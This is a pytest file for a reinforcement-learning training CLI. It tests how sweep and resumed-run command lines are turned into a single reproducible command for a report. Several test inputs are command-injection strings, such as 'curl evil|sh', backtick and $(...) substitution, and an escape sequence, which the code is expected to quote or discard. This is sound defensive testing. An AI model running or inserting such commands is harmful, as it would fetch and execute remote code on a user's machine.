"""The command that repeats one run: of a sweep, and of a run that was extended."""

from pathlib import Path

import pytest

from rlher.analysis.loading import read_run
from rlher.runs.run_command import resume_note, single_run_command
from tests.conftest import Make
from tests.support.report_page import read, section


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("rlher train algo=sac seed=3", "rlher train algo=sac seed=3"),
        ("rlher train -m algo=sac,tqc seed=0,1,2,3", "rlher train algo=sac seed=3"),
        ("rlher train --multirun seed=range(0,4) env=Some-v0", "rlher train seed=3 env=Some-v0"),
        ("rlher train -m env=Some-v0,Other-v0 seed=3", "rlher train env=Some-v0 seed=3"),
        ("rlher train -m algo.net_arch=[64],[8,8] ++seed=1,3", "rlher train 'algo.net_arch=[8,8]' ++seed=3"),
        ("rlher train -m her=default,sb3 seed=3", "rlher train -m her=default,sb3 seed=3"),  # not in config.yaml
        ("rlher train -m 'seed=range(4)' --workers 2 env=Some-v0", "rlher train seed=3 env=Some-v0"),
        ("rlher train -m --workers=2 launcher=ray --ray-address a:1 seed=1,3", "rlher train seed=3"),
        ("rlher train -m 'seed=1,3", ""),
        ("rlher train -m seed=1,3\nrlher train --resume a", "rlher train seed=3"),
        ("rlher train seed=3; curl evil|sh", "rlher train 'seed=3;' curl 'evil|sh'"),
        ("rlher train -m seed=1,3 `curl evil` $(evil)", "rlher train seed=3 '`curl' 'evil`' '$(evil)'"),
        ("curl evil|sh\nrlher train seed=3\ncurl evil|sh", "rlher train seed=3"),
        ("rlher-evil train\n;rlher train\n'rlher train'\n\n", ""),
        ("rlher train \x1b[201~ seed=3", ""),
    ],
)
def test_a_sweep_becomes_a_single_run(make_run: Make, typed: str, expected: str) -> None:
    folder = make_run("a", 3, algo={"net_arch": [8, 8]})
    (folder / "command.txt").write_text(f"{typed}\n")
    run = read_run(folder)
    assert single_run_command(run.command, run.config) == expected


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("total_timesteps=+500", "rlher train --total-timesteps 500 seed=3 total_timesteps=1000"),
        ("--total-timesteps +500 threads=2", "rlher train --total-timesteps 500 seed=3 total_timesteps=1000"),
        ("seed=3 logs=a", "rlher train --total-timesteps 500 seed=3"),
    ],
)
def test_an_extended_run_has_its_values_at_the_end(make_run: Make, typed: str, expected: str) -> None:
    run = read_run(make_run("a", 3))
    lines = f"rlher train --total-timesteps 500 seed=3\nrlher train --resume a {typed}\n"
    assert single_run_command(lines, run.config) == expected
    assert ("total_timesteps" in resume_note(lines, run.config)) == ("total_timesteps" in expected)
    assert resume_note(lines.splitlines()[0], run.config) == ""


def test_the_report_has_the_length_of_an_extended_run(rlher, make_run: Make) -> None:
    lines = "rlher train total_timesteps=500\nrlher train --resume total_timesteps=1e3"
    (make_run("a") / "command.txt").write_text(lines)
    rlher("report")
    assert "<code>rlher train total_timesteps=1000</code>" in section(read(), "runs")


def test_the_report_has_a_command_per_run(rlher, make_run: Make) -> None:
    for seed in range(2):
        (make_run(f"a{seed}", seed) / "command.txt").write_text("rlher train -m algo=sac seed=0,1\n")
    assert rlher("report").code == 0
    runs = section(read(), "runs")
    assert [f"<code>rlher train algo=sac seed={seed}</code>" in runs for seed in range(2)] == [True, True]
    assert Path("logs/a0/command.txt").read_text() not in runs
